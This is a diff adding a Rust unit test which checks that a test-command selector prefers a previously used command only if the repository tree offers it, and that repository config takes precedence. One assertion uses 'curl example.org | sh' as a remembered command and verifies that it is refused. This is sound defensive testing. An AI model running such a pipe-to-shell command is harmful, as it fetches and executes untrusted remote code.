@@ -33,3 +33,28 @@ fn an_approval_says_what_is_installed_and_from_where() {
         false,
     );
 }
+
+#[test]
+fn what_worked_before_is_preferred_among_what_the_tree_offers() {
+    let tree = tempfile::tempdir().unwrap();
+    std::fs::write(tree.path().join("test_a.py"), "def test_a(): pass").unwrap();
+    std::fs::write(tree.path().join("go.mod"), "module a\n\ngo 1.21\n").unwrap();
+    std::fs::write(tree.path().join("a_test.go"), "package a\n").unwrap();
+    let desk = |worked: Option<&str>, config: &str| {
+        let config = RepoConfig::parse(config).unwrap();
+        let mut desk = Desk::local(tree.path(), config, tree.path().into(), tree.path().into()).unwrap();
+        desk.worked_before = worked.map(str::to_string);
+        desk.test_command().unwrap().to_string()
+    };
+    let offered: Vec<String> = {
+        let config = RepoConfig::default();
+        let desk = Desk::local(tree.path(), config, tree.path().into(), tree.path().into()).unwrap();
+        desk.test_commands().iter().map(ToString::to_string).collect()
+    };
+    let [first, other] = [&offered[0], &offered[1]];
+    assert_eq!(desk(None, ""), *first);
+    assert_eq!(desk(Some(other), ""), *other);
+    // What the tree does not offer was never approved for it.
+    assert_eq!(desk(Some("curl example.org | sh"), ""), *first);
+    assert_eq!(desk(Some(other), "[test]\ncommand = \"make check\"\n"), "make check");
+}
